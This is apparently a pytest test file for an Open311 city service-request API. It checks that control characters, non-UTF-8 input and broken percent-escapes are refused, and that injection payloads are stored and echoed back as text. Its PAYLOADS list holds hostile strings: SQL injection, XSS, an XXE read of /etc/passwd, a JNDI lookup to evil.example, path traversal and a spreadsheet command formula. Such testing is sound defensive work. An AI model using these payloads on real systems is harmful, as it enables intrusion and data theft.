"""Characters that are none, and texts that are meant to be taken for something else."""

from typing import Any
from urllib.parse import quote

import pytest
from sqlalchemy import Engine

from open311.georeport.fields import SERVICE_REQUESTS
from tests.clients import CheckingClient
from tests.reading import content
from tests.reporting import MIDDLE, errors, post_report, report_row, reported, reporter_of

FORM = "application/x-www-form-urlencoded"
FIELDS = (
    "api_key",
    "jurisdiction_id",
    "service_code",
    "lat",
    "long",
    "address_string",
    "address_id",
    "email",
    "device_id",
    "account_id",
    "first_name",
    "last_name",
    "phone",
    "description",
    "media_url",
    "attribute[x]",
    "unknown",
)
PEOPLE = ("email", "device_id", "account_id", "first_name", "last_name", "phone")
# What PostgreSQL or XML 1.0 cannot hold: NUL, other control characters, and two that are none.
CONTROL = "\x00\x0b\x1f\x7f\ufffe"
BROKEN = {
    "a byte that begins nothing": "%FF",
    "half a letter": "%C5",
    "an overlong slash": "%C0%AF",
    "a lone surrogate": "%ED%A0%80",
    "Latin-2": "%B1%F3",
    "beyond Unicode": "%F5%80%80%80",
}
BROKEN_ESCAPES = ("%", "100%", "%4", "%zz", "%u0142", "%-1")
PAYLOADS = (
    "'; DROP TABLE service_request; --",
    "1' OR '1'='1",
    "$1 %s %(x)s :city {0} {city}",
    "<script>alert(1)</script>",
    "]]><![CDATA[<b>&amp;&#0;",
    '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
    "' or count(//request)>0 or 'a'='b",
    "{{7*7}}${7*7}#{7*7}<%= 7*7 %>",
    "{ $value } { NUMBER(1) } -term",
    "${jndi:ldap://evil.example/a}",
    "../../../etc/passwd\\x00\\u0000",
    '","lat":0,"x":"',
    "=cmd|' /C calc'!A0",
    "\u202eevil\u202c ﷽ 🏳️‍🌈 e\u0301",
)


@pytest.mark.usefixtures("nothing_kept")
@pytest.mark.parametrize("character", CONTROL, ids=ascii)
@pytest.mark.parametrize("name", FIELDS)
def test_a_control_character_is_refused_by_the_name_of_its_field(
    english: CheckingClient, key: str, name: str, character: str
) -> None:
    response = post_report(english, key, "krakow.pl", **{name: f"a{character}b"})
    assert response.status_code == 400
    assert errors(response) == [f"{name}: control characters are not allowed."]


def test_control_characters_in_several_fields_are_told_at_once(
    english: CheckingClient, key: str, format: str, nothing_kept: None
) -> None:
    response = post_report(english, key, "krakow.pl", format, email="\0", phone="\x1b[31m")
    assert [told.partition(":")[0] for told in errors(response)] == ["email", "phone"]


@pytest.mark.parametrize("character", CONTROL, ids=ascii)
def test_a_control_character_in_the_name_of_a_field_is_refused(
    english: CheckingClient, key: str, format: str, character: str, nothing_kept: None
) -> None:
    response = post_report(english, key, "krakow.pl", format, **{f"a{character}b": "1"})
    assert response.status_code == 400
    assert errors(response) == ["a\ufffdb: control characters are not allowed."]


@pytest.mark.parametrize("character", CONTROL, ids=ascii)
def test_a_control_character_in_the_query_is_refused(
    english: CheckingClient, format: str, character: str
) -> None:
    query = {"jurisdiction_id": f"krakow.pl{character}"}
    response = english.get(f"/open311/v2/services.{format}", query_string=query)
    assert response.status_code == 400
    assert errors(response) == ["jurisdiction_id: control characters are not allowed."]


def test_lines_tabs_and_letters_of_every_script_come_back_as_they_were_sent(
    client: CheckingClient, key: str, format: str
) -> None:
    sent = "zażółć\tgęślą\njaźń ґрати Ätzend 道路 رصيف \x85\xa0\u2028\ufeff\ufffd 🕳️ \U0010fffd."
    told = reported(client, key, "krakow.pl", description=sent)
    response = client.get(f"/krakow/open311/v2/requests/{told}.{format}")
    assert content(response, SERVICE_REQUESTS)[0]["description"] == sent


@pytest.mark.parametrize("sent", ["a\r\nb", "a\rb", "a\nb"], ids=ascii)
def test_the_end_of_a_line_is_kept_as_one_character(
    client: CheckingClient, key: str, sent: str, engine: Engine
) -> None:
    reported(client, key, "krakow.pl", description=sent)
    assert report_row(engine).description == "a\nb"


def post_raw(client: CheckingClient, key: str, rest: str | bytes, format: str = "json") -> Any:
    point = "&".join(f"{name}={value}" for name, value in MIDDLE["krakow.pl"].items())
    body = f"api_key={key}&service_code=graffiti&{point}&".encode()
    body += rest if isinstance(rest, bytes) else rest.encode()
    return client.post(f"/krakow/open311/v2/requests.{format}", data=body, content_type=FORM)


@pytest.mark.usefixtures("nothing_kept")
@pytest.mark.parametrize("broken", BROKEN.values(), ids=BROKEN)
@pytest.mark.parametrize("field", ["description={}", "email=a{}b", "attribute[{}]=1", "{}=1"])
def test_a_body_that_is_not_utf8_is_refused(
    english: CheckingClient, key: str, field: str, broken: str, format: str
) -> None:
    response = post_raw(english, key, field.format(broken), format)
    assert response.status_code == 400
    assert errors(response) == ["The body is not UTF-8."]


@pytest.mark.parametrize("broken", [b"\xff", b"\xc5", b"\xb1\xf3", b"\xed\xa0\x80"])
def test_a_body_that_is_not_utf8_is_refused_unescaped_too(
    english: CheckingClient, key: str, broken: bytes, format: str, nothing_kept: None
) -> None:
    response = post_raw(english, key, b"description=" + broken, format)
    assert errors(response) == ["The body is not UTF-8."]


@pytest.mark.usefixtures("nothing_kept")
@pytest.mark.parametrize("broken", BROKEN_ESCAPES)
@pytest.mark.parametrize("field", ["description={}", "{}=1", "attribute[{}]=1"])
def test_a_broken_percent_escape_in_the_body_is_refused(
    english: CheckingClient, key: str, field: str, broken: str, format: str
) -> None:
    response = post_raw(english, key, field.format(broken), format)
    assert response.status_code == 400
    assert errors(response) == ["The body has a broken percent-escape."]


@pytest.mark.parametrize("broken", BROKEN.values(), ids=BROKEN)
@pytest.mark.parametrize("path", ["services", "services/pothole", "tokens/x", "discovery"])
def test_a_query_that_is_not_utf8_is_refused(
    english: CheckingClient, path: str, broken: str, format: str
) -> None:
    response = english.get(f"/krakow/open311/v2/{path}.{format}?x={broken}")
    assert response.status_code == 400
    assert errors(response) == ["The query string is not UTF-8."]


@pytest.mark.parametrize("broken", BROKEN_ESCAPES)
def test_a_broken_percent_escape_in_the_query_is_refused(
    english: CheckingClient, key: str, broken: str, format: str, nothing_kept: None
) -> None:
    response = english.get(f"/krakow/open311/v2/services.{format}?x={broken}")
    assert response.status_code == 400
    assert errors(response) == ["The query string has a broken percent-escape."]
    posted = english.post(f"/krakow/open311/v2/requests.{format}?x={broken}", data={"api_key": key})
    assert errors(posted) == ["The query string has a broken percent-escape."]


@pytest.mark.parametrize("broken", [*BROKEN.values(), *BROKEN_ESCAPES, "%00", "%0A"])
@pytest.mark.parametrize("path", ["krakow{}/open311/v2/services", "krakow/open311/v2/services/a{}",
                                  "krakow/open311/v2/x{}", "{}/open311/discovery"])  # fmt: skip
def test_a_path_that_is_broken_leads_nowhere(
    client: CheckingClient, path: str, broken: str, format: str
) -> None:
    response = client.get(f"/{path.format(broken)}.{format}")
    assert response.status_code == 404
    assert errors(response)


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("name", ["description", "address_string", "address_id"])
def test_code_in_a_report_comes_back_as_text(
    client: CheckingClient, key: str, name: str, payload: str, format: str
) -> None:
    told = reported(client, key, "krakow.pl", **{name: payload})
    response = client.get(f"/krakow/open311/v2/requests.{format}")
    [request] = content(response, SERVICE_REQUESTS)
    assert request["service_request_id"] == told
    assert request["address" if name == "address_string" else name] == payload


@pytest.mark.parametrize("payload", PAYLOADS)
def test_code_in_a_media_url_comes_back_as_text(
    client: CheckingClient, key: str, payload: str, format: str
) -> None:
    sent = f"https://photos.example/?x={payload.replace(' ', '+')}"
    told = reported(client, key, "krakow.pl", media_url=sent)
    response = client.get(f"/krakow/open311/v2/requests/{told}.{format}")
    assert content(response, SERVICE_REQUESTS)[0]["media_url"] == sent


@pytest.mark.parametrize("payload", PAYLOADS)
def test_code_about_people_and_in_answers_is_kept_as_text(
    client: CheckingClient, key: str, payload: str, engine: Engine
) -> None:
    people = dict.fromkeys(PEOPLE, payload)
    code = payload.replace("]", "")
    reported(client, key, "krakow.pl", **people, **{f"attribute[{code}]": payload})
    reporter = reporter_of(engine)
    assert {name: getattr(reporter, name) for name in PEOPLE} == people
    assert report_row(engine).attributes == {code: [payload]}


@pytest.mark.usefixtures("nothing_kept")
@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize(
    ("names", "status"),
    [
        (("jurisdiction_id",), 404),
        (("service_code",), 404),
        (("lat", "long", "media_url", "attribute[carriageway_blocked]"), 400),
    ],
)
def test_code_in_a_field_that_is_refused_is_told_as_text(
    client: CheckingClient, key: str, names: tuple[str, ...], status: int, payload: str
) -> None:
    form = {"service_code": "pothole"} | dict.fromkeys(names, payload)
    printable = "".join(c if c.isprintable() else "\ufffd" for c in payload)
    for format in ("json", "xml"):
        response = post_report(client, key, "krakow.pl", format, **form)
        assert response.status_code == status
        for name, told in zip(names, errors(response), strict=True):
            assert told.startswith(name)
            assert printable[:60] in told


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("start", ["/{}/open311/v2/services", "/krakow/open311/v2/services/{}",
                                   "/krakow/open311/v2/tokens/{}"])  # fmt: skip
def test_code_in_a_path_is_told_as_text(
    client: CheckingClient, start: str, payload: str, format: str
) -> None:
    sent = payload.replace("/", "|")
    response = client.get(f"{start.format(quote(sent))}.{format}")
    assert response.status_code == 404
    printable = "".join(c if c.isprintable() else "\ufffd" for c in sent)
    assert printable[:60] in errors(response)[0]
